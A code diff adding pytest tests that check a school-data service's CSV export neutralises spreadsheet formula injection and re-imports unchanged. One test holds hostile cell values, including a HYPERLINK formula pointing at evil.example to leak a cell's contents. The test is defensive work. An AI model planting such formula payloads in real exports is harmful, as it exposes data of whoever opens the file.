@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import io
 
+import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
 from services.identification.demo.generator import COLUMNS
 from services.identification.demo.loader import load_demo_region
+from services.identification.tabular import to_csv
 from tests.conftest import DEMO_SCHOOLS, Stack
 from tests.identification.import_support import API, batches, export, export_rows, post_rows, upload
 
@@ -96,3 +98,37 @@ def test_loading_the_demo_again_changes_nothing(stack: Stack) -> None:
     load_demo_region(stack.settings, DEMO_SCHOOLS, 7)
     assert batches(stack, "admin")["total"] == before
     assert export(stack, "results", format="csv").content == results
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised() -> None:
+    frame = pd.DataFrame(
+        {"school_code": ['=HYPERLINK("http://x")', "+7", "@SUM(A1)", "\tx", "-x", "обычный"], "n": [-5, 3, 0, 1, 2, 4]}
+    )
+    lines = to_csv(frame).decode("utf-8-sig").splitlines()
+    assert lines[1:] == [
+        '"\'=HYPERLINK(""http://x"")";-5',
+        "'+7;3",
+        "'@SUM(A1);0",
+        "'\tx;1",
+        "'-x;2",
+        "обычный;4",
+    ]
+
+
+def test_a_hostile_school_name_is_exported_inert_and_reimports_unchanged(stack: Stack) -> None:
+    """Runs last in this module: it renames a school."""
+    schools = export_rows(stack, "schools", user="admin")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
+    renamed = {**schools[0], "short_name": hostile, "aliases": "-1+1|@cmd"}
+    answer = post_rows(stack, "schools", {"rows": [renamed], "source": "test"}, user="admin")
+    assert answer.status_code == 200, answer.text
+    content = export(stack, "schools", user="admin", format="csv").content
+    text = content.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'-1+1|@cmd" in text
+    for line in text.splitlines():
+        for cell in line.split(";"):
+            assert not cell.lstrip('"').startswith(("=", "+", "@")), cell
+    again = upload(stack, "schools", "schools.csv", content, user="admin")
+    assert again.status_code == 200 and again.json()["status"] == "unchanged", again.text
+    row = next(r for r in export_rows(stack, "schools", user="admin") if r["school_code"] == schools[0]["school_code"])
+    assert row["short_name"] == hostile
